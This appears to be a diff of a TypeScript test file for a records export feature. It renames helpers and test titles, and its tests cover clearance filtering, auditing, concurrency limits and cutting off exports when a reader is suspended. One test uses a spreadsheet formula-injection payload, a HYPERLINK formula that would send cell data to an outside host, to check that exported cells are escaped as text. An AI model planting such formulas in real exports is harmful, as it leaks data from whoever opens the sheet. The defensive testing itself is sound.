@@ -16,15 +16,15 @@ function rowsOf(body: unknown): Record<string, string>[] {
   return parse(String(body), { columns: true, bom: true, record_delimiter: '\r\n' });
 }
 
-async function exportsIn({ admin }: Office) {
+async function listExports({ admin }: Office) {
   const { items } = entries.parse((await admin.api.get('/api/audit?type=account')).body);
   return items
     .filter(({ what }) => what === 'exported')
     .map(({ by, details }) => ({ by: by.id, ...details }));
 }
 
-/** More than the sockets on the way take at once, so that the server has to wait for its reader. */
-async function logMuch(office: Office, author: Person): Promise<void> {
+/** Logs more than socket buffers hold, so that an export has to wait for its reader. */
+async function logManyEvents(office: Office, author: Person): Promise<void> {
   const summary = 'A long report. '.repeat(1_300);
   const logging = Array.from({ length: 450 }, (_, n) =>
     office.log(author, `Report ${n}`, { summary, tlp: 'green' }),
@@ -32,15 +32,15 @@ async function logMuch(office: Office, author: Person): Promise<void> {
   await Promise.all(logging);
 }
 
-/** The answer to somebody who reads nothing of it yet. */
-async function unread(office: Office, { cookie }: Person): Promise<IncomingMessage> {
+/** Starts an export without reading its body. */
+async function startExport(office: Office, { cookie }: Person): Promise<IncomingMessage> {
   const request = get(new URL(records, office.url), { headers: { cookie }, agent: false });
   const [answer]: IncomingMessage[] = await once(request, 'response');
   if (!answer) throw new Error('There was no answer');
   return answer;
 }
 
-test('an export holds what its reader may see under the filter, each record once and with its marking', async ({
+test('an export contains each matching event that its reader may see once, with its marking', async ({
   office,
 }) => {
   const { admin } = office;
@@ -72,7 +72,7 @@ test('an export holds what its reader may see under the filter, each record once
   expect((await reader.api.get(`${records}&targeted=VA`)).body).toEqual({ items: [] });
 });
 
-test('what was logged is text to whoever opens the sheet, and no formula', async ({ office }) => {
+test('cells of an exported sheet are text, never formulas', async ({ office }) => {
   const { admin } = office;
   const title = '=HYPERLINK("https://example.org/?"&A1,"Посольство, "" kapı")';
   await office.log(admin, title, {
@@ -87,7 +87,7 @@ test('what was logged is text to whoever opens the sheet, and no formula', async
   expect(row).toMatchObject({ title: `'${title}`, summary: "'+1\n'@SUM(1)", city: "'-2+3", tags: "'@x" });
 });
 
-test('every export is entered in the audit with its filter, whoever makes it; what is refused is none', async ({
+test('each export by a person or a key is audited with its filter; refused requests are not', async ({
   office,
 }) => {
   const reader = await office.join({ role: 'viewer', clearance: 'green' });
@@ -99,15 +99,15 @@ test('every export is entered in the audit with its filter, whoever makes it; wh
   expect((await reader.api.call('HEAD', records)).status).toBe(405);
   const nobody = await fetch(new URL(records, office.url));
   expect(nobody.status).toBe(401);
-  expect(await exportsIn(office)).toEqual([
+  expect(await listExports(office)).toEqual([
     { by: id, format: 'json', filter: null },
     { by: reader.id, format: 'csv', filter: 'targeted=RU%2CPK&q=letter' },
   ]);
 });
 
-test('a reader has one export at a time, and whoever goes makes room for his next', async ({ office }) => {
-  await logMuch(office, office.admin);
-  const answer = await unread(office, office.admin);
+test('a reader has one export at a time, and may start another after an abort', async ({ office }) => {
+  await logManyEvents(office, office.admin);
+  const answer = await startExport(office, office.admin);
   const second = await office.admin.api.get(records);
   expect(second).toMatchObject({ status: 429, body: { detail: expect.stringContaining('in progress') } });
   expect((await (await office.join()).api.get(records)).status).toBe(200);
@@ -115,17 +115,17 @@ test('a reader has one export at a time, and whoever goes makes room for his nex
   await expect.poll(async () => (await office.admin.api.get(records)).status).toBe(200);
 });
 
-test('an export ends with the rights of its reader, and is not taken for whole', async ({ office }) => {
-  await logMuch(office, office.admin);
+test('an export is cut off when its reader’s rights end', async ({ office }) => {
+  await logManyEvents(office, office.admin);
   const reader = await office.join({ role: 'viewer', clearance: 'green' });
-  const answer = await unread(office, reader);
+  const answer = await startExport(office, reader);
   expect((await office.grant(reader, { isSuspended: true })).status).toBe(200);
   let bytes = 0;
   answer.on('data', (chunk: Buffer) => {
     bytes += chunk.length;
   });
   const ended = await once(answer, 'end').then(
-    () => 'whole',
+    () => 'complete',
     () => 'cut',
   );
   expect(ended).toBe('cut');
